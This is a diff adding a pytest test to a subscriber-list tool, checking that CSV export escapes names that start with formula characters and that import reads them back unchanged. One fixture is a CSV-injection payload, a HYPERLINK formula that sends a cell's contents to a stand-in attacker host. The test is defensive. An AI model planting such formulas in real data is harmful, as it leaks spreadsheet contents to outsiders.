@@ -175,3 +175,28 @@ def test_remove_finds_the_address_whatever_the_case_of_its_local_part(tmp_path):
     assert proc.returncode == 0, proc.stderr
     assert proc.stdout.strip() == "removed Ann@example.org (as ann@example.org, was active): it is sent no more digests"
     assert [(s["address"], s["status"]) for s in listed(tmp_path)] == [("ann@example.org", "unsubscribed")]
+
+
+def test_export_keeps_a_strangers_formula_out_of_the_operators_spreadsheet(tmp_path):
+    """A name typed into the form as "=HYPERLINK(…)" is a formula when the export is opened in a
+    spreadsheet: such cells start with "'" (shown as text), and import reads the name back whole."""
+    one, two = tmp_path / "one", tmp_path / "two"
+    for root in (one, two):
+        root.mkdir()
+        project(root)
+    formula = '=HYPERLINK("https://evil.example.net/?"&A2,"Click")'
+    assert feeds(one, "add", "--", "-dash@example.org").returncode == 0
+    with Store(one / "state" / "feeds.sqlite3") as store:
+        for address, name in (("ann@example.org", formula), ("bo@example.org", "@Bo +1")):
+            store.subscribe(address, name, source="form", now=datetime(2025, 3, 1, tzinfo=UTC))
+            store.confirm(address, now=datetime(2025, 3, 1, 1, tzinfo=UTC))
+    proc = feeds(one, "export")
+    rows = list(csv.reader(io.StringIO(proc.stdout)))
+    assert rows[1:] == [["'-dash@example.org", "", "active"], ["ann@example.org", "'" + formula, "active"],
+                        ["bo@example.org", "'@Bo +1", "active"]]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    (two / "list.csv").write_text(proc.stdout, encoding="utf-8")
+    assert feeds(two, "import", "list.csv").returncode == 0
+    assert feeds(two, "export").stdout == proc.stdout
+    assert {(s["address"], s["name"]) for s in listed(two)} == {
+        ("-dash@example.org", ""), ("ann@example.org", formula), ("bo@example.org", "@Bo +1")}
